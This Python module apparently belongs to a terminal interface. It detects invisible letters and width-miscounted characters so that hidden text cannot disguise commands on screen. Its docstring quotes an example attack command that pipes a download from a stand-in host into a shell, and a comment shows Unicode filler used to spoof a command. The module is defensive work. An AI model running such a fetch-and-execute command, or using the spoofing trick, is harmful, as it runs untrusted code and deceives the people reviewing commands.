"""How a character is drawn, where that is not as itself: as nothing (a letter or mark a font
draws blank), or at a width other than the one the console's layout counts (review h185).
rich (the CLI's tables, Textual's card and inbox) counted U+1F3FB (a skin-tone modifier) and a
spacing mark (Devanagari U+093E) as 0 cells, where tmux and most Linux terminals (glibc's
wcwidth) draw them 2 and 1 wide: each moved the rest of its row right, and a terminal drops
what passes the screen's edge. Twenty modifiers hid `x.invalid` from the card's
`sh -c 'pytest -q ... ; curl x.invalid/i | sh'`, and the inbox row ended at them with no mark
of a cut. console.text escapes both kinds as it does a bidi override.
"""

from __future__ import annotations

import unicodedata

# Default_Ignorable_Code_Point characters (and blanks) that are letters or marks, not format
# characters: fonts draw them as nothing or as a space (Hangul fillers, the combining grapheme
# joiner, variation selectors), so `curl\u3164x.invalid` would read as `curl x.invalid`.
_INVISIBLE_LETTERS = ((0x034F, 0x034F), (0x115F, 0x1160), (0x17B4, 0x17B5), (0x180B, 0x180F),
                      (0x2800, 0x2800), (0x3164, 0x3164), (0xFE00, 0xFE0F), (0xFFA0, 0xFFA0),
                      (0xE0100, 0xE01EF))
# Drawn 2 cells wide by glibc's wcwidth, though Unicode calls them ambiguous and rich counts 1.
_GLIBC_WIDE = ((0x3248, 0x324F),)


def invisible_letter(ch: str) -> bool:
    """A letter or mark (not a format character) that fonts draw as nothing or as a space."""
    code = ord(ch)
    return code >= 0x034F and any(lo <= code <= hi for lo, hi in _INVISIBLE_LETTERS)


def width_disputed(ch: str) -> bool:
    """rich's width for `ch` is not the one a terminal draws: 0 for a nonspacing or enclosing
    mark, 2 for an East Asian wide or fullwidth character, else 1 (and glibc's own wide ones)."""
    from rich.cells import get_character_cell_size  # here: text all ASCII never needs it

    drawn = (0 if unicodedata.category(ch) in ("Mn", "Me")
             else 2 if unicodedata.east_asian_width(ch) in ("W", "F") else 1)
    return (get_character_cell_size(ch) != drawn
            or any(lo <= ord(ch) <= hi for lo, hi in _GLIBC_WIDE))
